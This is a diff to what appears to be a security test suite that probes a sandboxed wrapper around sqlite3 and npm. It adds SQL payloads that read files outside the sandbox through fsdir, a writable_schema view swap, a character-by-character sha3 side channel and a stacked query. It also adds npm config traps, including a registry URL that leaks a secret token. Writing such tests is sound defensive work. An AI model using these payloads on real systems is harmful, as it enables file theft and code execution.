@@ -278,6 +278,17 @@ await attack("curl", "curl", { ...project, "headers.txt": "X: y" }, async (place
   assert.deepEqual((await Array.fromAsync(Deno.readDir(work))).length, 7);
 });
 
+/** Tries every character at each place of a file until the sum is that of what it holds. */
+function stolenBySum(file: string): string {
+  const characters = Array.from({ length: 30 }, (_, at) => {
+    const text = `'SELECT cast(substr(data,${at + 1},1) AS text) FROM fs'||'dir(''${file}'')'`;
+    const sum = "sha3('S'||length(s)||':'||s||'RT1:'||char(n),256)";
+    return "(WITH RECURSIVE k(n) AS (VALUES(9) UNION ALL SELECT n+1 FROM k WHERE n<127), " +
+      `q(s) AS (VALUES(${text})) SELECT char(n) FROM k,q WHERE ${sum}=sha3_query(s,256))`;
+  });
+  return `SELECT ${characters.join("||")} AS stolen`;
+}
+
 await attack("sqlite3", "sqlite3", project, async (place) => {
   const { call, outside, work } = place;
   await say(["sqlite3", join(work, "db"), "CREATE TABLE t(a); INSERT INTO t VALUES(1)"]);
@@ -306,6 +317,11 @@ await attack("sqlite3", "sqlite3", project, async (place) => {
     "INSERT INTO t VALUES(2)",
     "DROP TABLE t",
     "PRAGMA writable_schema=1; DELETE FROM sqlite_master",
+    "PRAGMA writable_schema=ON; CREATE TEMP VIEW v AS SELECT 1; UPDATE temp.sqlite_master " +
+    `SET sql='CREATE VIEW v AS SELECT data FROM fs'||'dir(''${file}'')' WHERE name='v'; ` +
+    "PRAGMA writable_schema=RESET; SELECT * FROM v",
+    stolenBySum(file),
+    `SELECT 1; ${stolenBySum(file)}`,
     "-init x",
     "-cmd .shell",
   ];
@@ -440,12 +456,16 @@ await attack("npm", "npm", {
   ...project,
   "package.json": '{"name":"x","version":"1.0.0","scripts":{"prepack":"./trap","build":"./trap"}}',
   ".npmrc": "script-shell=./trap\ngit=./trap\nnode-options=--require=./trap.js\neditor=./trap\n" +
-    "registry=http://127.0.0.1:9/${SECRET_TOKEN}/\ncache=../new\nprefix=../new\nignore-scripts=false\n",
+    "registry=http://127.0.0.1:9/${SECRET_TOKEN}/\ncache=../new\nprefix=../new\nignore-scripts=false\n" +
+    "logs-dir=$PLACE/work/logs\nlogs-max=1\n",
+  // What npm takes for an old log of its own, and would delete
+  "logs/2020-01-01T00_00_00_000Z-debug-0.log": "",
   "trap.js": 'require("fs").writeFileSync("$PLACE/trace", "")',
   trap: trap(),
-}, async ({ call }) => {
+}, async ({ call, work }) => {
   await call("npm_ls", {});
   await call("npm_scripts", {});
+  assert.equal(await exists(join(work, "logs/2020-01-01T00_00_00_000Z-debug-0.log")), true);
   assert.match(await call("npm_pack_list", {}), /package\.json/);
   await call("npm_outdated", {});
   const specs = [
